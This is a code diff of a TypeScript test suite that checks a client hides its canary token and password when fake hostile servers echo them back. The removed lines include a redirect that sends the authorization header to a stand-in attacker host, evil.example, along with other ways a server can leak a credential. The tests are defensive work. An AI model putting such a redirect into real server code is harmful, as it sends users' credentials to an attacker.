@@ -5,42 +5,11 @@ import { describe, expect, it } from "vitest";
 import { PlatformError } from "../../src/greenhouse/ports.js";
 import type { PlatformSettings } from "../../src/platform/settings.js";
 import { makeClient, never, settingsFor, folder } from "./support/client-under-test.js";
-import { type Answerer, type SeenRequest, startFakeHost } from "./support/fake-host.js";
+import { type AnswerName, answers, hostilePlatform } from "../canary/hostile-platform.js";
 import { startRawHost } from "./support/raw-host.js";
 
 const canary = "CANARY/tok+en=0123456789";
 const password = "CANARY-password-987";
-
-/** Answers with what is made of the credential it was sent, as careless servers do. */
-const echo =
-  (body: (bearer: string, request: SeenRequest) => unknown, status = 200): Answerer =>
-  (request) => ({ status, body: body(request.headers.authorization ?? "", request) });
-
-const echoes: readonly (readonly [string, Answerer])[] = [
-  ["body code and message", echo((bearer) => ({ code: bearer, message: `bad ${bearer}` }))],
-  ["401 with the token", echo((bearer) => ({ error: bearer, message: bearer }), 401)],
-  ["403 naming the token", echo((message) => ({ code: 403, message: { code: "X", message } }), 403)],
-  ["requestId", echo((requestId) => ({ code: 500, message: "x", requestId }))],
-  ["an encoded token", echo((bearer) => ({ code: 500, message: encodeURIComponent(bearer) }))],
-  [
-    "a redirect",
-    ({ headers }) => ({
-      status: 302,
-      headers: { location: `https://evil.example/?t=${encodeURIComponent(headers.authorization ?? "")}` },
-    }),
-  ],
-  ["a web page", echo((bearer) => `<html>${bearer}</html>`)],
-  ["broken JSON", echo((bearer) => `{"token":"${bearer}`)],
-  ["a long message that ends in it", echo((bearer) => ({ code: 500, message: "x".repeat(290) + bearer }))],
-  ["an unreadable shape", echo((secret) => ({ code: 200, data: [{ secret }] }))],
-  ["a scalar", echo((data) => ({ code: 200, data }))],
-  ["the sign-in's body", echo((_, { body }) => ({ code: 400, message: `wrong: ${body}` }), 400)],
-  ["a cut connection", (_request, response) => (response.socket?.destroy(), null)],
-  [
-    "an encoding nobody knows",
-    ({ headers }) => ({ headers: { "content-encoding": `x-${headers.authorization ?? ""}` }, body: "x" }),
-  ],
-];
 
 async function credentials(): Promise<readonly Partial<PlatformSettings>[]> {
   const path = join(await folder(), "token");
@@ -76,8 +45,9 @@ async function showNothing(url: string): Promise<void> {
 }
 
 describe("secrets", () => {
-  it.each(echoes)("a server that echoes them in %s makes none appear", async (_name, answerer) =>
-    showNothing((await startFakeHost(answerer)).url),
+  it.each(Object.keys(answers) as AnswerName[])(
+    "a server that echoes them as %s makes none appear",
+    async (name) => showNothing((await hostilePlatform(name, false)).url),
   );
 
   it("an answer that is not HTTP and repeats the request makes none appear", async () =>
